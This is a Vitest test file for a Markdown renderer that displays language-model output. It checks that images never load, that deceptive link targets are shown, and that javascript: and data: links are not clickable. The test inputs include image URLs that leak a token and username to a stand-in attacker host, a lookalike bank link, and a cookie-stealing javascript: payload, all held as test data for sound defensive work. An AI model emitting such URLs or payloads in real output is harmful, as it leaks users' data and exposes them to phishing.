import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./markdown";

const render = (markdown: string) => renderToStaticMarkup(<Markdown>{markdown}</Markdown>);
/** The text a reader sees, tags removed. */
const text = (html: string) => html.replace(/<[^>]+>/g, "").replace(/&amp;/g, "&");

describe("Markdown from the model", () => {
  it("never loads an image: it shows the alt text and the address instead", () => {
    const html = render("Your summary ![quarterly chart](https://evil.example/x.png?d=PURPLE-OTTER-42&u=alice) is ready.");
    expect(html).not.toContain("<img");
    expect(text(html)).toContain("[image: quarterly chart] (https://evil.example/x.png?d=PURPLE-OTTER-42&u=alice)");
  });

  it("does not load same-origin, relative, reference-style or data: images either", () => {
    const html = render(
      [
        "![logout](/auth/logout)",
        "![](https://127.0.0.1:9/leak)",
        "![ref][pic]",
        "![pixel](data:image/png;base64,iVBORw0KGgo=)",
        "",
        "[pic]: http://evil.example/ref.gif",
      ].join("\n"),
    );
    expect(html).not.toContain("<img");
    expect(text(html)).toContain("[image: logout] (/auth/logout)");
    expect(text(html)).toContain("[image] (https://127.0.0.1:9/leak)");
    expect(text(html)).toContain("[image: ref] (http://evil.example/ref.gif)");
    // urlTransform blanks data: URLs, so only the alt text is left.
    expect(text(html)).toContain("[image: pixel]");
    expect(html).not.toContain("data:image");
  });

  it("renders raw HTML as nothing that loads", () => {
    const html = render('<img src="https://evil.example/raw.png"> <iframe src="https://evil.example"></iframe>');
    expect(html).not.toMatch(/<img|<iframe/);
  });

  it("shows where a link goes when its text says something else, and opens it without opener or referrer", () => {
    const html = render("See [your bank](https://evil.example/login?next=bank) for details.");
    expect(html).toContain('href="https://evil.example/login?next=bank"');
    expect(html).toContain('target="_blank"');
    expect(html).toContain('rel="noopener noreferrer"');
    expect(text(html)).toContain("your bank (https://evil.example/login?next=bank)");
  });

  it("does not repeat an address the link text already shows", () => {
    for (const markdown of ["https://example.com/docs", "<https://example.com/docs>", "[example.com/docs](https://example.com/docs/)", "www.example.com"]) {
      const html = render(markdown);
      expect(html, markdown).toMatch(/<a href="https?:\/\/(www\.)?example\.com/);
      expect(html, markdown).not.toContain("(http");
    }
  });

  it("a lookalike link text does not hide the real address", () => {
    const html = render("[https://bank.example](https://bank.example.evil.example)");
    expect(text(html)).toContain("https://bank.example (https://bank.example.evil.example)");
  });

  it("javascript: and data: links are not clickable", () => {
    const html = render("[click me](javascript:alert(document.cookie)) and [open](data:text/html,<script>alert(1)</script>)");
    expect(html).not.toContain("<a");
    expect(html).not.toMatch(/javascript:|data:text/);
    expect(text(html)).toContain("click me");
    expect(text(html)).toContain("open");
  });

  it("keeps ordinary Markdown: emphasis, lists, code, tables, non-ASCII", () => {
    const html = render("**Café** (2 × 3.5)\n\n- one\n- two\n\n`x < y`\n\n| a | b |\n| - | - |\n| 1 | 2 |");
    expect(html).toContain("<strong>Café</strong> (2 × 3.5)");
    expect(html).toContain("<li>one</li>");
    expect(html).toContain("<code>x &lt; y</code>");
    expect(html).toContain("<table>");
  });
});
